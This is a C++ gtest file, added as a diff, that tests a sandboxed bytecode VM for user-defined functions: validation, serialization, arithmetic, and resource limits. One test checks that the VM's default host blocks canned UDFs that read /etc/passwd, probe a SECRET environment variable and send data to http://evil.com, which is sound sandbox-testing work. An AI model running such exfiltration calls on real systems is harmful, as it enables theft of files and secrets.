@@ -1,0 +1,243 @@
+// Tests for src/udf: bytecode validation + serde, the LGVM interpreter
+// (semantics, limits, host-call mediation) and the canned user functions.
+
+#include <gtest/gtest.h>
+
+#include "common/sha256.h"
+#include "udf/builder.h"
+#include "udf/bytecode.h"
+#include "udf/vm.h"
+
+namespace lakeguard {
+namespace {
+
+Result<Value> RunUdf(const UdfBytecode& bc, std::vector<Value> args,
+                  HostInterface* host = nullptr, VmLimits limits = {}) {
+  return ExecuteUdf(bc, args, host, limits);
+}
+
+// ---- Bytecode validation -----------------------------------------------------------
+
+TEST(BytecodeTest, EmptyCodeRejected) {
+  UdfBytecode bc;
+  bc.name = "empty";
+  EXPECT_TRUE(ValidateBytecode(bc).IsInvalidArgument());
+}
+
+TEST(BytecodeTest, OutOfRangeConstRejected) {
+  UdfBytecode bc;
+  bc.name = "bad";
+  bc.code.push_back({OpCode::kPushConst, 3, 0});
+  bc.code.push_back({OpCode::kReturn, 0, 0});
+  EXPECT_TRUE(ValidateBytecode(bc).IsInvalidArgument());
+}
+
+TEST(BytecodeTest, OutOfRangeJumpRejected) {
+  UdfBytecode bc;
+  bc.name = "bad";
+  bc.code.push_back({OpCode::kJump, 99, 0});
+  bc.code.push_back({OpCode::kReturn, 0, 0});
+  EXPECT_TRUE(ValidateBytecode(bc).IsInvalidArgument());
+}
+
+TEST(BytecodeTest, MissingReturnRejected) {
+  UdfBytecode bc;
+  bc.name = "bad";
+  bc.const_pool.push_back(Value::Int(1));
+  bc.code.push_back({OpCode::kPushConst, 0, 0});
+  bc.code.push_back({OpCode::kPop, 0, 0});
+  EXPECT_TRUE(ValidateBytecode(bc).IsInvalidArgument());
+}
+
+TEST(BytecodeTest, SerdeRoundTrip) {
+  UdfBytecode bc = canned::HashUdf(10);
+  ByteWriter w;
+  SerializeBytecode(bc, &w);
+  ByteReader r(w.data());
+  auto back = DeserializeBytecode(&r);
+  ASSERT_TRUE(back.ok()) << back.status();
+  EXPECT_TRUE(*back == bc);
+}
+
+TEST(BytecodeTest, SerdeRejectsBadOpcode) {
+  UdfBytecode bc = canned::SumUdf();
+  ByteWriter w;
+  SerializeBytecode(bc, &w);
+  std::vector<uint8_t> bytes = w.data();
+  // Opcode byte of the first instruction lives after name/args/locals/
+  // ret/constpool-count; easier: corrupt every byte until decode fails
+  // differently — here simply append garbage program.
+  UdfBytecode evil = bc;
+  evil.code[0].op = static_cast<OpCode>(200);
+  ByteWriter w2;
+  SerializeBytecode(evil, &w2);
+  ByteReader r2(w2.data());
+  EXPECT_FALSE(DeserializeBytecode(&r2).ok());
+}
+
+// ---- VM semantics --------------------------------------------------------------------
+
+TEST(VmTest, SumUdf) {
+  auto v = RunUdf(canned::SumUdf(), {Value::Int(2), Value::Int(40)});
+  ASSERT_TRUE(v.ok()) << v.status();
+  EXPECT_EQ(v->int_value(), 42);
+}
+
+TEST(VmTest, SumWithDoublesWidens) {
+  auto v = RunUdf(canned::SumUdf(), {Value::Double(0.5), Value::Int(1)});
+  ASSERT_TRUE(v.ok());
+  EXPECT_DOUBLE_EQ(v->double_value(), 1.5);
+}
+
+TEST(VmTest, SumWithNullPropagates) {
+  auto v = RunUdf(canned::SumUdf(), {Value::Null(), Value::Int(1)});
+  ASSERT_TRUE(v.ok());
+  EXPECT_TRUE(v->is_null());
+}
+
+TEST(VmTest, WrongArityRejected) {
+  EXPECT_TRUE(
+      RunUdf(canned::SumUdf(), {Value::Int(1)}).status().IsInvalidArgument());
+}
+
+TEST(VmTest, HashUdfMatchesReference) {
+  // One iteration: sha256 over the string rendering of the argument.
+  auto v = RunUdf(canned::HashUdf(1), {Value::String("abc")});
+  ASSERT_TRUE(v.ok());
+  EXPECT_EQ(v->string_value(), Sha256::HexDigest("abc"));
+  // Two iterations: sha256(sha256("abc")).
+  auto v2 = RunUdf(canned::HashUdf(2), {Value::String("abc")});
+  EXPECT_EQ(v2->string_value(), Sha256::HexDigest(Sha256::HexDigest("abc")));
+}
+
+TEST(VmTest, LoopArithmetic) {
+  // while i < n: acc += i; i += 1  -> sum of 0..9 = 45
+  UdfBuilder b("acc", 1, TypeKind::kInt64);
+  uint32_t acc = b.AddLocal();
+  uint32_t i = b.AddLocal();
+  b.PushConst(Value::Int(0)).StoreLocal(acc);
+  b.PushConst(Value::Int(0)).StoreLocal(i);
+  size_t loop = b.Here();
+  b.LoadLocal(i).LoadArg(0).CmpLt();
+  size_t exit_jump = b.EmitJumpIfFalse();
+  b.LoadLocal(acc).LoadLocal(i).Add().StoreLocal(acc);
+  b.LoadLocal(i).PushConst(Value::Int(1)).Add().StoreLocal(i);
+  b.JumpTo(loop);
+  b.PatchJump(exit_jump, b.Here());
+  b.LoadLocal(acc).Ret();
+  auto bc = b.Build();
+  ASSERT_TRUE(bc.ok());
+  auto v = RunUdf(*bc, {Value::Int(10)});
+  ASSERT_TRUE(v.ok());
+  EXPECT_EQ(v->int_value(), 45);
+}
+
+TEST(VmTest, ComparisonsAndLogic) {
+  UdfBuilder b("cmp", 2, TypeKind::kBool);
+  b.LoadArg(0).LoadArg(1).CmpLt();
+  b.LoadArg(0).PushConst(Value::Int(0)).CmpGe();
+  b.LogicalAnd().Ret();
+  auto bc = b.Build();
+  ASSERT_TRUE(bc.ok());
+  EXPECT_TRUE(RunUdf(*bc, {Value::Int(1), Value::Int(2)})->bool_value());
+  EXPECT_FALSE(RunUdf(*bc, {Value::Int(3), Value::Int(2)})->bool_value());
+  EXPECT_FALSE(RunUdf(*bc, {Value::Int(-1), Value::Int(2)})->bool_value());
+}
+
+TEST(VmTest, StringOpsAndLength) {
+  UdfBuilder b("strcat", 2, TypeKind::kString);
+  b.LoadArg(0).LoadArg(1).Concat().Ret();
+  auto v = RunUdf(*b.Build(), {Value::String("a"), Value::Int(7)});
+  EXPECT_EQ(v->string_value(), "a7");
+
+  UdfBuilder l("len", 1, TypeKind::kInt64);
+  l.LoadArg(0).LengthOp().Ret();
+  EXPECT_EQ(RunUdf(*l.Build(), {Value::String("abcd")})->int_value(), 4);
+  EXPECT_EQ(RunUdf(*l.Build(), {Value::Binary("xyz")})->int_value(), 3);
+  EXPECT_TRUE(RunUdf(*l.Build(), {Value::Null()})->is_null());
+}
+
+TEST(VmTest, DivisionByZeroIsError) {
+  UdfBuilder b("div", 2, TypeKind::kFloat64);
+  b.LoadArg(0).LoadArg(1).Div().Ret();
+  EXPECT_TRUE(RunUdf(*b.Build(), {Value::Int(1), Value::Int(0)})
+                  .status()
+                  .IsInvalidArgument());
+}
+
+TEST(VmTest, FuelLimitKillsInfiniteLoop) {
+  VmLimits limits;
+  limits.fuel = 10'000;
+  auto v = RunUdf(canned::InfiniteLoopUdf(), {}, nullptr, limits);
+  EXPECT_EQ(v.status().code(), StatusCode::kResourceExhausted);
+}
+
+TEST(VmTest, StackLimitEnforced) {
+  UdfBuilder b("deep", 0, TypeKind::kInt64);
+  // Push in an unbounded loop.
+  size_t loop = b.Here();
+  b.PushConst(Value::Int(1));
+  b.JumpTo(loop);
+  b.PushConst(Value::Int(0)).Ret();
+  VmLimits limits;
+  limits.max_stack = 100;
+  auto v = RunUdf(*b.Build(), {}, nullptr, limits);
+  EXPECT_EQ(v.status().code(), StatusCode::kResourceExhausted);
+}
+
+TEST(VmTest, DefaultHostDeniesEverything) {
+  auto file = RunUdf(canned::FileExfiltrationUdf("/etc/passwd"), {});
+  EXPECT_TRUE(file.status().IsPermissionDenied());
+  auto env = RunUdf(canned::EnvProbeUdf("SECRET"), {});
+  EXPECT_TRUE(env.status().IsPermissionDenied());
+  auto net = RunUdf(canned::NetworkExfiltrationUdf("http://evil.com/x"),
+                 {Value::String("data")});
+  EXPECT_TRUE(net.status().IsPermissionDenied());
+}
+
+TEST(VmTest, StatsCountInstructionsAndHostCalls) {
+  VmStats stats;
+  class CountingHost : public HostInterface {
+   public:
+    Result<Value> CallHost(HostFn, const std::vector<Value>&) override {
+      return Value::String("ok");
+    }
+  } host;
+  auto v = ExecuteUdf(canned::EnvProbeUdf("X"), {}, &host, {}, &stats);
+  ASSERT_TRUE(v.ok());
+  EXPECT_EQ(stats.host_calls, 1);
+  EXPECT_GT(stats.instructions, 0);
+}
+
+TEST(VmTest, SensorFeatureUdf) {
+  auto bc = canned::SensorFeatureUdf(0.5, 1.0);
+  auto v = RunUdf(bc, {Value::Binary("12345678")});
+  ASSERT_TRUE(v.ok());
+  EXPECT_DOUBLE_EQ(v->double_value(), 8 * 0.5 + 1.0);
+}
+
+TEST(VmTest, DeterministicAcrossRuns) {
+  auto bc = canned::HashUdf(5);
+  auto a = RunUdf(bc, {Value::String("seed")});
+  auto b = RunUdf(bc, {Value::String("seed")});
+  EXPECT_EQ(a->string_value(), b->string_value());
+}
+
+// Property sweep: canned::SumUdf agrees with native addition over a grid.
+class SumUdfProperty
+    : public ::testing::TestWithParam<std::tuple<int64_t, int64_t>> {};
+
+TEST_P(SumUdfProperty, MatchesNative) {
+  auto [a, b] = GetParam();
+  auto v = RunUdf(canned::SumUdf(), {Value::Int(a), Value::Int(b)});
+  ASSERT_TRUE(v.ok());
+  EXPECT_EQ(v->int_value(), a + b);
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Grid, SumUdfProperty,
+    ::testing::Combine(::testing::Values(-1000, -1, 0, 1, 999999),
+                       ::testing::Values(-37, 0, 12, 1 << 20)));
+
+}  // namespace
+}  // namespace lakeguard
